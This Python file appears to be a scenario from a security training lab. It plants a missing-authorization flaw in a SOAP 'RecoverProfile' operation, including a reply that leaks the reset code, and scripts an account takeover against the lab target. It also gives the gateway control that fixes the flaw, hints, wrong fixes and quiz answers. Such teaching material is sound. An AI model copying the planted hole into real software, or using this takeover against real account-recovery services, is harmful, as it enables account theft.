"""An operation made for support hands out an account."""

from __future__ import annotations

import re
from typing import Any

from scenarios.lab import soap
from scenarios.lab.model import Control, Outcome, Plant, Rewrite, Scenario, WrongFix
from scenarios.lab.target import Target

VICTIM, CLOSED = "ivan", "hana"
ATTACKER = "127.0.0.68"
NEW = "chosen-by-the-thief"


def anybody_recovers(document: dict[str, Any], _: Target) -> None:
    """The operation loses its scope."""
    route = next(one for one in document["routes"] if one["name"] == "profiles-soap")
    guard = next(one for one in route["filters"] if one["type"] == "SoapGuard")
    for operation in guard["operations"]:
        if operation["name"] == "RecoverProfile":
            del operation["scopes"]


def attack(lab: Target) -> Outcome:
    """Ivan has closed his account. Bob recovers it, gets the code that was for Ivan, and sets a password."""
    lab.have_user(VICTIM, "as-ivan-chose-it")
    profile = {"username": VICTIM, "full_name": "Ivan Sample", "email": "ivan@shop.example"}
    lab.tidy("admin", "POST", "/profiles", json=profile)
    lab.tidy("admin", "DELETE", f"/profiles/{VICTIM}")
    answer = soap.call(lab, "bob", "RecoverProfile", {"username": VICTIM})
    told = dict(re.findall(r"(Reset|Code): (\S+)", answer.body.decode("utf-8", "replace")))
    taken = False
    if told:
        body = {"code": told["Code"], "new_password": NEW}
        path = f"/auth/credential-resets/{told['Reset']}/complete"
        lab.call("nobody", "POST", path, json=body, source=ATTACKER)
        taken = lab.login(VICTIM, NEW, source=ATTACKER).status == 200
    return Outcome(
        breached=taken,
        got="Ivan's account, with a password of Bob's" if taken else "nothing",
        measures={"RecoverProfile": str(answer.status), "login as Ivan": "200" if taken else "not reached"},
    )


def benign(lab: Target) -> bool:
    """A customer wants her profile back, and support recovers it."""
    lab.tidy("admin", "DELETE", f"/profiles/{CLOSED}")
    return soap.call(lab, "carol", "RecoverProfile", {"username": CLOSED}).status == 200


SCENARIO = Scenario(
    id="soap-recover",
    title="Recovered by a stranger",
    story=(
        "SOAP services create, read, update, drop, and recover: records and credentials. Recovering was made for "
        "support, so nobody thought of who else might call it; and so that support need not wait, it answers with "
        "what was mailed to the user."
    ),
    references=("OWASP API2:2023", "OWASP API5:2023", "CWE-640", "CWE-862"),
    claims=("C7", "C10", "C17"),
    difficulty=4,
    minutes=10,
    weaknesses=(
        Rewrite(anybody_recovers, "RecoverProfile asks for no scope"),
        Plant("profiles", "recovers-for-anybody"),
        Plant("identity", "tells-the-code"),
    ),
    control=Control(
        name="rights by operation, and a code that goes to the user alone",
        where="gateway",
        lines='- type: SoapGuard\n  operations: [{name: RecoverProfile, scopes: ["profiles:recover"]}]',
        elsewhere='In the service: permit(claims, "recover", username), and the code by mail only.',
    ),
    attack=attack,
    benign=benign,
    hints=(
        "Which operations does the WSDL name, and which of them does the shop's app use?",
        "The scope of the route is that of the mildest operation. Where could each have its own?",
        "Three things went wrong at once. Each of them alone would have stopped Bob: name them.",
    ),
    wrong_fixes=(
        WrongFix("take the operation out of the WSDL", "Old copies of it are everywhere; the service still answers."),
        WrongFix("ask for Ivan's date of birth", "Bob looks it up. What others can know proves nothing."),
        WrongFix("end Ivan's sessions at the reset", "That is done. The thief does not use Ivan's sessions."),
    ),
    questions=(
        (
            "Which of the three would you repair first?",
            "The scope at the gateway: a line, in force in a second, and it is a control for all that comes later. "
            "Then the other two; whoever gets past one of them must not have won.",
        ),
        ("Does the old password still work after a reset has been asked for?", "Yes: else it locks people out."),
    ),
)
